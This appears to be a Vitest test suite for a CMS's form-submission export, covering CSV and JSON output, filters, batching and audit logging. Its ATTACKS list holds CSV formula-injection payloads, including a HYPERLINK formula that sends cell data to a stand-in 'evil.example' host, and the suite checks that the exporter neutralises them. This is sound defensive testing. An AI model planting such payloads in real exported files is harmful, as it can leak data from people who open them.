import { parse } from 'csv-parse/sync'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { keep, type Kept } from '#cms/forms/keep.server.ts'
import type { Cms } from '#cms/payload.server.ts'
import { sqlOf } from '#cms/sql.server.ts'
import { openTestCms, person } from '#tests/setup/cms.ts'
import { askInbox, sent, trail } from '#tests/setup/inbox.ts'

let cms: Cms
let sales: Awaited<ReturnType<typeof person>>

beforeAll(async () => {
  cms = await openTestCms()
  sales = await person(cms, 'sales')
})

beforeEach(async () => {
  await sqlOf(cms).query('DELETE FROM submissions')
})

const kept = (fields: Partial<Kept> = {}) => keep(cms, sent(fields))

async function csv(query: Record<string, unknown> = {}) {
  const answer = await askInbox(cms, sales, '/export', { query: { format: 'csv', ...query } })
  const bytes = new Uint8Array(await answer.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const rows = parse<Record<string, string>>(text, { columns: true, bom: true, record_delimiter: '\r\n' })
  return { headers: answer.headers, text, rows }
}

const ATTACKS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1',
  '\u00a0=1',
  '\t=1',
  '"=1',
  `'=1`,
  '“=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  '\u200b=1',
  'Hello\n=1',
  'Hello;=1',
  '=HYPERLINK("https://evil.example?"&A1)',
]

test('a file has a byte order mark, lines that end as they should, a column for each answer, and a name with the day', async () => {
  await kept({ name: 'Ada "Countess", Lovelace', message: 'Two\nlines', company: 'Größe & Söhne' })
  await kept({
    form: 'schedule-demo',
    name: 'Grace',
    answers: { timeZone: 'Europe/Berlin', times: ['mon-morning', '2026-11-25-afternoon'], topics: [] },
  })
  const { headers, text, rows } = await csv()
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="submissions-\d{4}-\d\d-\d\d\.csv"$/)
  expect(headers.get('content-type')).toMatch(/^text\/csv/)
  expect([text.startsWith('\uFEFF"Number","Sent","Form"'), text.endsWith('"\r\n')]).toEqual([true, true])
  expect(rows).toMatchObject([
    {
      Name: 'Grace',
      'Time zone': 'Europe/Berlin',
      'Preferred times': 'Mondays, morning; Wednesday, 25 November 2026, afternoon',
      Role: '',
    },
    { Name: 'Ada "Countess", Lovelace', Message: 'Two\nlines', Company: 'Größe & Söhne', Role: 'Engineer', Campaign: 'utm_source=news' },
  ])
})

test.each(ATTACKS)('%j is no formula, in whichever cell it stands', async (attack) => {
  await kept({ name: attack, message: attack, company: attack, answers: { role: attack, times: [attack, attack] } })
  const { rows } = await csv()
  const cells = Object.values(rows[0] ?? {})
  const begins = /(?:^|[;\t\r\n])[\s"'“\u200b]*[=+\-@＝＋－＠]/
  const bare = cells.filter((cell) => begins.test(cell.replaceAll(/'(?=[\s"'“\u200b]*[=+\-@\t\r＝＋－＠])/g, 'safe')))
  expect(bare).toEqual([])
  expect(rows[0]?.Name).toContain("'")
})

test('the same as JSON says word for word what was sent, and nothing that the site keeps to itself', async () => {
  await kept({ name: '=1+1' })
  const [doc] = (await (await askInbox(cms, sales, '/export', { query: { format: 'json' } })).json()) as Record<string, unknown>[]
  expect(doc).toMatchObject({ name: '=1+1', answers: { role: 'Engineer' }, assignee: null })
  expect(Object.keys(doc ?? {})).not.toEqual(expect.arrayContaining(['idempotencyKey']))
  expect(Object.keys(doc ?? {})).not.toEqual(expect.arrayContaining(['person']))
})

test('nothing to export is an empty table, and an empty list', async () => {
  expect((await csv()).rows).toEqual([])
  expect(await (await askInbox(cms, sales, '/export', { query: { format: 'json' } })).json()).toEqual([])
})

describe('the filter of the list', () => {
  test('is the filter of the file: spam only where it was asked for', async () => {
    await kept({ name: 'Ham' })
    await kept({ name: 'Spam', status: 'spam' })
    const names = async (query: Record<string, unknown>) => (await csv(query)).rows.map(({ Name }) => Name)
    expect(await names({})).toEqual(['Ham'])
    expect(await names({ where: { or: [{ and: [{ status: { equals: 'spam' } }] }] } })).toEqual(['Spam'])
    expect(await names({ search: 'ham' })).toEqual(['Ham'])
  })

  test('goes over many batches and misses none', async () => {
    await sqlOf(cms).query(
      `INSERT INTO submissions (form, status, name, email, created_at, updated_at)
       SELECT 'sca-waitlist', 'new', 'N' || n, n || '@example.com', now(), now() FROM generate_series(1, 1203) n`,
    )
    const { rows } = await csv()
    expect(new Set(rows.map(({ Name }) => Name)).size).toBe(1203)
  })

  test('is in the audit trail with the count, without what may be of a person', async () => {
    await kept({ email: 'secret@example.com' })
    const where = { and: [{ form: { equals: 'contact-sales' } }, { email: { equals: 'secret@example.com' } }] }
    await csv({ where })
    const line = (await trail(cms, 'exported')).at(-1)
    expect(line?.details).toEqual({ count: 1, format: 'csv', filter: expect.stringContaining('form equals contact-sales, email equals …') })
  })

  test('of a field that is not there, and an unknown format, are refused', async () => {
    expect((await askInbox(cms, sales, '/export', { query: { where: { secret: { equals: 1 } } } })).status).toBe(400)
    expect((await askInbox(cms, sales, '/export', { query: { format: 'xlsx' } })).status).toBe(400)
  })
})
